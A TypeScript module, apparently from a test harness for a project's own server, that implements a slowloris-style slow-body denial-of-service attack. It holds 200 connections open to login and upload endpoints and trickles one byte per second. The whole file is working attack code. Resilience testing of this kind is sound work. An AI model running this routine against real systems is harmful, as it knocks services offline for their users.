import { connect, type Socket } from 'node:net'
import type { Attack } from '../attack'

const connections = 200

/** Half are JSON bodies, half uploads; each sends one byte per second and starts again when its connection is closed. */
export const attack: Attack = {
  name: 'trickled-bodies',
  description: `${connections} connections that send one byte of a body a second`,
  prepare: async () => undefined,
  async run({ address, attacker }, signal) {
    const heads = [loginHead, uploadHead(await attacker.fetchAsDealership.token())]
    const slow = Array.from({ length: connections }, (_, index) =>
      trickle(address, heads[index % heads.length] ?? loginHead, signal),
    )
    await Promise.all(slow)
  },
}

const loginHead = ['POST /api/v2/auth/login HTTP/1.1', 'content-type: application/json', 'content-length: 100000']
const uploadHead = (token: string) => [
  'POST /api/v2/files/upload HTTP/1.1',
  'content-type: multipart/form-data; boundary=slow',
  'content-length: 100000000',
  `authorization: Bearer ${token}`,
]

async function trickle(address: string, head: readonly string[], signal: AbortSignal): Promise<void> {
  const { hostname, port } = new URL(address)
  while (!signal.aborted) {
    const socket = connect(Number(port), hostname)
    socket.write(`${[...head, 'host: localhost'].join('\r\n')}\r\n\r\n`)
    const timer = setInterval(() => socket.write(' '), 1000)
    await closed(socket, signal)
    clearInterval(timer)
  }
}

function closed(socket: Socket, signal: AbortSignal): Promise<void> {
  return new Promise((resolve) => {
    const end = () => socket.destroy()
    signal.addEventListener('abort', end, { once: true })
    socket.on('error', () => undefined)
    socket.resume()
    socket.once('close', () => {
      signal.removeEventListener('abort', end)
      resolve()
    })
  })
}
